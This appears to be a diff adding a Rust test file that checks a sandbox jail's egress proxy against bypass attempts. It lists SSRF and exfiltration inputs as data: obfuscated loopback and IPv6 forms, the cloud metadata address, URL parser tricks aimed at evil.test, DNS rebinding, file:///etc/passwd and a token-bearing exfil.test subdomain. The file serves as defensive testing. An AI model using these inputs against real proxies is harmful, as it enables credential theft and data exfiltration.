@@ -1,0 +1,305 @@
+//! Family F: tricks against the egress proxy, from inside the jail, with
+//! policy `attack-proxy.json` (allowed: `allowed.test`, `*.allowed.test`,
+//! `rebind.test`). The lab resolver maps allowlisted names to every special
+//! range; the sinks listen on all of them and on the lab's loopback. The
+//! only legitimate sink events are the proxy's DNS queries for allowlisted
+//! names and the proxy's upstream dial (0 bytes) to the allowed address
+//! before it answers `200`: any byte reaching a sink fails the test.
+mod common;
+use common::*;
+use labspec::{ALLOWED_V4, SinkEvent};
+use oajail_security::judge::assert_blocked_allowing;
+use oajail_security::verdict::Verdict;
+
+const PROXY: &str = "attack-proxy.json";
+
+/// Legitimate events: the proxy's DNS queries for allowlisted names, and
+/// the proxy's upstream dial to the allowed address that precedes its
+/// `200` (no client byte may follow it before the SNI check).
+fn allowed_dns(ev: &SinkEvent) -> bool {
+    let dial = ev.sink == "tcp" && ev.bytes == 0 && ev.local.contains(ALLOWED_V4);
+    dial || ev.sink == "dns"
+        && ev.name.as_deref().is_some_and(|n| {
+            n == "allowed.test" || n.ends_with(".allowed.test") || n == "rebind.test"
+        })
+}
+
+fn proxy_blocked(id: &str, args: impl FnOnce(&Lab) -> Vec<String>) {
+    proxy_blocked_with(id, &RunOptions::default(), args);
+}
+
+fn proxy_blocked_with(id: &str, opts: &RunOptions, args: impl FnOnce(&Lab) -> Vec<String>) {
+    let mut lab = Lab::new(id);
+    let argv = args(&lab);
+    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
+    let run = lab.jailed(PROXY, &argv, opts);
+    assert_blocked_allowing(&mut lab, id, &run, &allowed_dns);
+}
+
+/// The positive control: an allowed CONNECT with a matching SNI reaches the
+/// allowed sink. Without it, every "blocked" below could mean "no proxy".
+#[test]
+fn control_allowed_connect_reaches_allowed_sink() {
+    let lab = Lab::new("control-proxy");
+    let run = lab.jailed(
+        PROXY,
+        &["proxy-connect", "allowed.test:443", "allowed.test"],
+        &RunOptions::default(),
+    );
+    let verdict = run.report.as_ref().map(|r| r.verdict);
+    assert_eq!(
+        verdict,
+        Some(Verdict::Succeeded),
+        "{} {}",
+        run.stdout,
+        run.stderr
+    );
+    assert!(
+        run.events.iter().any(|e| e.sink == "tcp"
+            && e.local.contains(ALLOWED_V4)
+            && e.name.as_deref() == Some("allowed.test")),
+        "{:?}",
+        run.events
+    );
+}
+
+#[test]
+fn blocks_sni_mismatch() {
+    proxy_blocked("F1-sni-mismatch", |_| {
+        argv!["proxy-connect", "allowed.test:443", "evil.test"]
+    });
+}
+
+#[test]
+fn blocks_sni_of_another_allowed_host() {
+    proxy_blocked("F1-sni-other-allowed", |_| {
+        argv!["proxy-connect", "www.allowed.test:443", "api.allowed.test"]
+    });
+}
+
+#[test]
+fn blocks_missing_sni() {
+    proxy_blocked("F1-no-sni", |_| {
+        argv!["proxy-connect", "allowed.test:443", "-"]
+    });
+}
+
+#[test]
+fn blocks_non_tls_in_tls_tunnel() {
+    proxy_blocked("F1-not-tls", |_| {
+        argv!["proxy-connect", "allowed.test:443", "raw"]
+    });
+}
+
+#[test]
+fn blocks_connect_to_ip_literal_with_allowed_sni() {
+    proxy_blocked("F3-ip-literal", |_| {
+        argv!["proxy-connect", format!("{ALLOWED_V4}:443"), "allowed.test"]
+    });
+}
+
+#[test]
+fn blocks_plain_http_host_mismatch() {
+    proxy_blocked("F4-host-mismatch", |_| {
+        argv!["proxy-get", "http://evil.test/", "allowed.test"]
+    });
+}
+
+#[test]
+fn blocks_origin_form_request() {
+    proxy_blocked("F4-origin-form", |_| {
+        argv![
+            "proxy-raw",
+            "GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n"
+        ]
+    });
+}
+
+#[test]
+fn blocks_numeric_ip_forms() {
+    for (n, form) in [
+        "2130706433",
+        "0x7f000001",
+        "0177.0.0.1",
+        "127.1",
+        "127.0.0.1.",
+        "017700000001",
+    ]
+    .iter()
+    .enumerate()
+    {
+        proxy_blocked(&format!("F5-numeric-{n}"), |_| {
+            argv!["proxy-connect", format!("{form}:443"), "allowed.test"]
+        });
+    }
+}
+
+#[test]
+fn blocks_ipv6_forms() {
+    let forms = [
+        "[::1]",
+        "[::]",
+        "[::ffff:127.0.0.1]",
+        "[::ffff:7f00:1]",
+        "[64:ff9b::a9fe:a9fe]",
+        "[2002:a9fe:a9fe::]",
+        "[fd00:ec2::254]",
+        "[fe80::1%25lo]",
+        "[::ffff:169.254.169.254]",
+    ];
+    for (n, form) in forms.iter().enumerate() {
+        proxy_blocked(&format!("F6-ipv6-{n}"), |_| {
+            argv!["proxy-connect", format!("{form}:443"), "allowed.test"]
+        });
+    }
+}
+
+#[test]
+fn blocks_metadata_literal() {
+    proxy_blocked("F7-metadata-literal", |_| {
+        argv!["proxy-get", "http://169.254.169.254/latest/meta-data/", "-"]
+    });
+}
+
+#[test]
+fn blocks_allowed_names_resolving_to_metadata() {
+    for name in ["metadata", "ecs", "alibaba", "azure"] {
+        proxy_blocked(&format!("F7-{name}-by-name"), |_| {
+            argv![
+                "proxy-connect",
+                format!("{name}.allowed.test:443"),
+                format!("{name}.allowed.test")
+            ]
+        });
+    }
+}
+
+#[test]
+fn blocks_allowed_names_resolving_to_private_ranges() {
+    for name in [
+        "private",
+        "private172",
+        "private192",
+        "cgnat",
+        "loopback",
+        "zero",
+    ] {
+        proxy_blocked(&format!("F8-{name}"), |_| {
+            argv![
+                "proxy-connect",
+                format!("{name}.allowed.test:443"),
+                format!("{name}.allowed.test")
+            ]
+        });
+    }
+}
+
+/// Rebinding: the lab resolver answers public, then 127.0.0.1, alternately.
+/// Connections to the public address are legitimate; loopback must never be reached.
+#[test]
+fn blocks_dns_rebinding() {
+    let id = "F9-rebinding";
+    let mut lab = Lab::new(id);
+    let opts = RunOptions {
+        dns: labspec::DnsMode::Rebind,
+        ..RunOptions::default()
+    };
+    for _ in 0..4 {
+        let run = lab.jailed(
+            PROXY,
+            &["proxy-connect", "rebind.test:443", "rebind.test"],
+            &opts,
+        );
+        let allow =
+            |ev: &SinkEvent| allowed_dns(ev) || (ev.sink == "tcp" && ev.local.contains(ALLOWED_V4));
+        let bad: Vec<_> = run.events.iter().filter(|e| !allow(e)).collect();
+        if !bad.is_empty() || run.report.is_none() {
+            assert_blocked_allowing(&mut lab, id, &run, &allow);
+            return;
+        }
+    }
+    // Every run reached only the checked public address: record the block.
+    let run = lab.jailed(
+        PROXY,
+        &["proxy-connect", "rebind.test:443", "evil.test"],
+        &opts,
+    );
+    assert_blocked_allowing(&mut lab, id, &run, &allowed_dns);
+}
+
+#[test]
+fn blocks_userinfo_and_parser_differentials() {
+    let urls = [
+        "http://allowed.test@evil.test/",
+        "http://allowed.test:80@evil.test/",
+        "http://evil.test#@allowed.test/",
+        "http://evil.test\\@allowed.test/",
+        "http://evil.test%2f@allowed.test/",
+        "http://evil.test%00.allowed.test/",
+    ];
+    for (n, url) in urls.iter().enumerate() {
+        proxy_blocked(&format!("F10-url-{n}"), |_| argv!["proxy-get", url, "-"]);
+    }
+}
+
+#[test]
+fn blocks_allowed_host_on_other_ports() {
+    for port in [22, 25, 6379] {
+        proxy_blocked(&format!("F11-port-{port}"), |_| {
+            argv!["proxy-connect", format!("allowed.test:{port}"), "raw"]
+        });
+    }
+}
+
+#[test]
+fn blocks_socks_to_denied_host() {
+    proxy_blocked("F14-socks-denied", |_| {
+        argv!["socks", "connect", "evil.test:443"]
+    });
+}
+
+#[test]
+fn blocks_socks_ip_literal() {
+    proxy_blocked("F14-socks-ip-literal", |_| {
+        argv!["socks", "connect", format!("{ALLOWED_V4}:443")]
+    });
+}
+
+#[test]
+fn blocks_socks_bind() {
+    proxy_blocked("F14-socks-bind", |_| {
+        argv!["socks", "bind", "allowed.test:443"]
+    });
+}
+
+#[test]
+fn blocks_socks_udp_associate() {
+    proxy_blocked("F14-socks-udp", |_| {
+        argv!["socks", "udp", "allowed.test:443"]
+    });
+}
+
+#[test]
+fn blocks_non_http_schemes() {
+    for (n, url) in [
+        "ftp://allowed.test/x",
+        "gopher://allowed.test/",
+        "file:///etc/passwd",
+    ]
+    .iter()
+    .enumerate()
+    {
+        proxy_blocked(&format!("F16-scheme-{n}"), |_| argv!["proxy-get", url, "-"]);
+    }
+}
+
+#[test]
+fn blocks_dns_exfil_through_proxy() {
+    proxy_blocked("E3-proxy-resolves-denied-name", |l| {
+        argv![
+            "proxy-connect",
+            format!("{}.exfil.test:443", l.token),
+            "raw"
+        ]
+    });
+}
